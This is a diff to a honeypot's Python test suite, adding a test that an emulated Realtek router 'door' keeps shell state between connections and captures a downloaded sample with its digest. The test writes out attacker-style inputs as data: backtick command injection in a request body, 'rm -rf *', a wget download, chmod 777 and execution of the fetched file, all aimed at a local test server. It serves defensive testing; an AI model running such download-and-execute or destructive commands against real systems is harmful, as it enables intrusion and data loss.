@@ -15,6 +15,7 @@ import tempfile
 import time
 
 sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "lib"))
+import fetchsrv  # noqa: E402
 import tanuki_test as tt  # noqa: E402
 from tanuki_test import Conn, Daemon, by_id  # noqa: E402
 
@@ -268,6 +269,47 @@ def test_doors_realtek_three_requests_rm_wget_chmod():
         evs = d.wait_events(lambda e: len(inputs(e)) >= 3 and urls(e))
         assert inputs(evs) == cmds
         assert urls(evs) == ["http://127.0.0.1/x"]
+
+
+def test_doors_realtek_three_requests_file_kept_between_connections():
+    """With fetching on, the file the second request fetched is in the
+    shell the third request runs in (door shells are kept per source
+    address): its copy is captured with the sample's digest."""
+    import hashlib
+    body = b"\x7fELF" + hashlib.sha256(b"realtek").digest() * 40
+    sha = hashlib.sha256(body).hexdigest()
+    http = fetchsrv.http_server({"/x": ("file", body)})
+    dns = fetchsrv.Dns({})
+    hp = http.server_address[1]
+    conf = ["config fetch 'fetch'", "\toption enabled '1'", "\toption public '0'",
+            "\toption dns '127.0.0.1:%d'" % dns.port, "\tlist allow '127.0.0.0/8'"]
+    cmds = ["cd /tmp; rm -rf *",
+            "cd /tmp; wget http://127.0.0.1:%d/x -O /tmp/x" % hp,
+            "cd /tmp; cp x y; chmod 777 y; ./y realtek"]
+    try:
+        with Daemon(persona="zyxel-pk5001z", listeners=[("door", "miniigd", None)],
+                    extra=conf) as d:
+            for i, cmd in enumerate(cmds):
+                c = Conn(d.port)
+                c.send(rt_request(rt_body("`%s`" % cmd)))
+                head, _ = read_response(c)
+                assert head.startswith(b"HTTP/1.1 200 OK\r\n"), head
+                assert c.wait_closed(5)
+                c.close()
+                if i == 1:
+                    d.wait_events(lambda e: any(x.get("shasum") == sha for x in e))
+            evs = d.wait_events(lambda e: any(
+                x.get("shasum") == sha and x.get("reason") in ("chmod", "exec")
+                for x in by_id(e, "cowrie.session.file_download")))
+            caps = [x for x in by_id(evs, "cowrie.session.file_download")
+                    if x.get("shasum") == sha and x.get("reason")]
+            assert caps[0]["destfile"] == "/tmp/y", caps
+            sessions = [x["session"] for x in by_id(evs, "tanuki.exploit")]
+            assert caps[0]["session"] == sessions[2], (caps, sessions)
+            assert d.files()[sha] == body
+    finally:
+        http.shutdown()
+        dns.close()
 
 
 def test_doors_realtek_metasploit_wanipcn_and_understated_length():
